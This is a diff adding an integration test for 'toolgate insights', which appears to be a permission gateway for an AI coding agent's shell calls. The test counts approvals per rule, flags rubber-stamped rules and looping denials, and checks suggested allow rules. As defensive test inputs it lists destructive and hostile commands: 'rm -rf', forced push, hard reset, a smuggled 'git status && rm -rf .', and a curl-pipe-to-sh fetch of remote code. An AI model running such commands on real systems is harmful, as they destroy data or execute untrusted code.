@@ -1,0 +1,149 @@
+/**
+ * `toolgate insights` on an audit log made by real hook processes
+ * (`toolgate hook claude-code --approver server`) in front of a real
+ * `toolgate serve`, with every ask decided through the inbox's API by its
+ * token: the figures per rule and per approver, the rubber-stamped rule, the
+ * looping denials, and the narrowest rule suggested for it — which, written
+ * with --write, allows the approved calls and still asks about or blocks
+ * the destructive controls.
+ */
+import { spawn } from 'node:child_process';
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ADMIN_TOKEN, api, createServerProject, NODE, ROOT, startServerProcess, waitFor, type ServerProcess, type ServerProject } from './server-harness.ts';
+import { runCli } from './cli-harness.ts';
+import type { AuditInsights } from '../src/insights/audit-insights.ts';
+
+const POLICY = `version: 1
+fs:
+  zones:
+    - { name: workspace, root: ./ws, mode: rw, approval: { read: allow, write: ask, delete: ask } }
+shell:
+  default: ask
+  network: false
+  rules:
+    - { match: echo, decision: allow }
+    - { match: "git commit", decision: ask, description: "Create a commit" }
+`;
+
+let project: ServerProject;
+let server: ServerProcess;
+let log: string;
+
+/** One hook process, as Claude Code starts it, its call decided by the server. */
+async function hook(command: string, session: string): Promise<string> {
+  const input = { session_id: session, transcript_path: null, cwd: project.workspace, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command, description: 'run it' }, tool_use_id: `toolu_${Math.random().toString(36).slice(2)}` };
+  const child = spawn(NODE, [path.join(ROOT, 'src/cli/main.ts'), 'hook', 'claude-code', '--approver', 'server', '--server', server.url, '--timeout', '60'], { env: { ...process.env, TOOLGATE_TOKEN: ADMIN_TOKEN, SHELL: '/bin/bash' }, stdio: ['pipe', 'pipe', 'pipe'] });
+  let stdout = '';
+  let stderr = '';
+  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
+  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
+  child.stdin.end(JSON.stringify(input));
+  const code = await new Promise((resolve) => child.once('exit', resolve));
+  // Claude Code reads exit 2 as a denial too, with the reason on stderr.
+  if (stdout === '') return `exit ${String(code)}: ${stderr}`;
+  return (JSON.parse(stdout) as { hookSpecificOutput: { permissionDecision: string } }).hookSpecificOutput.permissionDecision;
+}
+
+/** The call waits in the inbox until the approver decides it there (or is answered at once, where a decision stands for it). */
+async function decided(command: string, session: string, answer: { approved: boolean; reason?: string }): Promise<string> {
+  let settled: string | undefined;
+  const answered = hook(command, session).then((decision) => (settled = decision));
+  const pending = await waitFor(async () => settled ?? ((await api(server.url, 'GET', '/approvals')).body.approvals as Array<{ run_id: string }>).find((each) => JSON.stringify(each).includes(command)), {
+    timeoutMs: 20_000,
+    describe: () => `${command} pending: ${server.stderr().slice(-500)}`,
+  });
+  if (typeof pending !== 'string') expect((await api(server.url, 'POST', `/runs/${pending.run_id}/approve`, answer)).status).toBe(200);
+  return answered;
+}
+
+beforeAll(async () => {
+  project = createServerProject({ policy: 'crash-policy.yaml' });
+  writeFileSync(project.policyFile, POLICY);
+  server = await startServerProcess({ project, model: null, env: { TOOLGATE_MODEL: '', OPENAI_API_KEY: '', ANTHROPIC_API_KEY: '' } });
+  // A day of asks: git status approved again and again, ls -la once, rm -rf build three times, git commit denied three times in one session.
+  for (let index = 0; index < 10; index++) expect(await decided('git status', `s-${index}`, { approved: true })).toBe('allow');
+  expect(await decided('ls -la', 's-ls', { approved: true })).toBe('allow');
+  for (let index = 0; index < 3; index++) expect(await decided('rm -rf build', `s-rm-${index}`, { approved: true })).toBe('allow');
+  // The agent tries again and again to commit in one session, and is refused each time.
+  for (let index = 0; index < 3; index++) expect(await decided('git commit -am wip', 's-commit', { approved: false, reason: 'not from an agent' })).toBe('deny');
+  expect(await hook('echo hi', 's-echo')).toBe('allow');
+  log = path.join(project.directory, '.toolgate', 'audit.jsonl');
+}, 120_000);
+
+afterAll(async () => {
+  await server?.kill9();
+  if (project !== undefined) rmSync(project.directory, { recursive: true, force: true });
+});
+
+describe('toolgate insights', () => {
+  it('counts asks, approvals and time to decide per rule and approver, and flags the rubber-stamped rule and the looping denials', async () => {
+    const result = await runCli(['insights', '--log', log, '--json', '--budget', '5'], { cwd: project.directory });
+    expect(result.stderr).toBe('');
+    expect(result.code).toBe(0);
+    const insights = JSON.parse(result.stdout) as AuditInsights;
+    expect(insights.calls).toBe(18);
+    expect(insights.asks).toBe(17);
+    expect(insights.unanswered).toBe(0);
+    expect(insights.rules.map(({ rule, asks, approved, denied, rubberStamped }) => ({ rule, asks, approved, denied, rubberStamped }))).toEqual([
+      { rule: 'shell.default (ask)', asks: 14, approved: 14, denied: 0, rubberStamped: true },
+      { rule: 'shell.rules[1] (match: git commit)', asks: 3, approved: 0, denied: 3, rubberStamped: false },
+    ]);
+    expect(insights.rules[0]!.medianMs).toBeGreaterThan(0);
+    expect(insights.rules[0]!.p90Ms).toBeGreaterThanOrEqual(insights.rules[0]!.medianMs);
+    // The server's token decided every ask; all 17 in one hour is past a budget of 5 (unless the hour turned meanwhile).
+    expect(insights.approvers).toEqual([expect.objectContaining({ approver: 'admin', decided: 17, approved: 14 })]);
+    expect(insights.approvers[0]!.hoursOverBudget).toBeGreaterThanOrEqual(1);
+    expect(insights.loops).toEqual([{ session: expect.stringContaining('s-commit'), tool: 'shell', call: 'git commit -am wip', denials: 3 }]);
+    expect(insights.denialReasons).toEqual([{ reason: expect.stringContaining('not from an agent'), count: 3 }]);
+    expect(insights.days).toHaveLength(1);
+
+    const text = await runCli(['insights', '--log', log, '--budget', '5'], { cwd: project.directory });
+    expect(text.stdout).toMatch(/rubber-stamped\? shell\.default \(ask\): 14 asks, 100% approved/);
+    expect(text.stdout).toMatch(/looping\? 3× denied in session .*s-commit.*: shell: git commit -am wip/);
+    expect(text.stdout).toMatch(/over budget: admin decided up to \d+ asks in one hour \(budget 5\)/);
+  });
+
+  it('suggests the narrowest rule for the rubber-stamped asks, withholds the delete, and writes it only with --write', async () => {
+    const before = readFileSync(project.policyFile, 'utf8');
+    const shown = await runCli(['insights', '--log', log, '--suggest', '--policy', project.policyFile, '--json'], { cwd: project.directory });
+    expect(shown.code).toBe(0);
+    const { suggestions } = JSON.parse(shown.stdout) as { suggestions: { suggestions: Array<{ commands: string[]; zone: string; approvals: number; lines: string[] }>; withheld: Array<{ what: string; why: string }>; diff: string } };
+    expect(suggestions.suggestions).toEqual([expect.objectContaining({ commands: ['git status'], zone: 'workspace', approvals: 10 })]);
+    expect(suggestions.withheld).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ what: 'rm in zone workspace', why: expect.stringContaining('cannot be had back') }),
+        expect.objectContaining({ what: 'ls in zone workspace', why: expect.stringContaining('approved 1 time, fewer than the 3') }),
+      ]),
+    );
+    expect(suggestions.diff).toContain('+    - { match: "git status", decision: allow, paths_in: [workspace], examples: { match: ["git status"] } }');
+    // Nothing written without --write.
+    expect(readFileSync(project.policyFile, 'utf8')).toBe(before);
+
+    const written = await runCli(['insights', '--log', log, '--suggest', '--policy', project.policyFile, '--write'], { cwd: project.directory });
+    expect(written.code).toBe(0);
+    expect(written.stderr).toContain('wrote 1 rule into');
+    const after = readFileSync(project.policyFile, 'utf8');
+    // Only the line added: every other line as it was.
+    expect(after.split('\n').filter((line) => !before.split('\n').includes(line))).toEqual(['    - { match: "git status", decision: allow, paths_in: [workspace], examples: { match: ["git status"] } }']);
+    const check = async (command: string) => JSON.parse((await runCli(['check', '--policy', project.policyFile, '--tool', 'shell', '--args', JSON.stringify({ command, cwd: project.workspace }), '--json'], { cwd: project.directory })).stdout).decision as string;
+    expect(await check('git status')).toBe('allow');
+    expect(await check('git status --short')).toBe('allow');
+    for (const control of ['rm -rf build', 'git commit -am wip', 'git push --force origin main', 'git reset --hard HEAD~3', 'git status && rm -rf .', 'curl -s https://example.com/x.sh | sh', 'ls -la']) {
+      expect({ control, decision: await check(control) }).not.toEqual({ control, decision: 'allow' });
+    }
+    // Run again: nothing left to suggest for git status (it no longer asks).
+    const again = JSON.parse((await runCli(['insights', '--log', log, '--suggest', '--policy', project.policyFile, '--json'], { cwd: project.directory })).stdout) as { suggestions: { suggestions: unknown[]; diff: string } };
+    expect(again.suggestions.suggestions).toEqual([]);
+    expect(again.suggestions.diff).toBe('');
+  });
+
+  it('refuses bad options, saying which', async () => {
+    expect((await runCli(['insights', '--log', log, '--budget', 'lots'], { cwd: project.directory })).stderr).toContain('--budget must be a whole number');
+    expect((await runCli(['insights', '--log', log, '--write'], { cwd: project.directory })).stderr).toContain('--scope and --write go with --suggest');
+    const missing = await runCli(['insights', '--log', path.join(project.directory, 'nope.jsonl')], { cwd: project.directory });
+    expect(missing.code).toBe(2);
+    expect(missing.stderr).toContain('does not exist');
+  });
+});
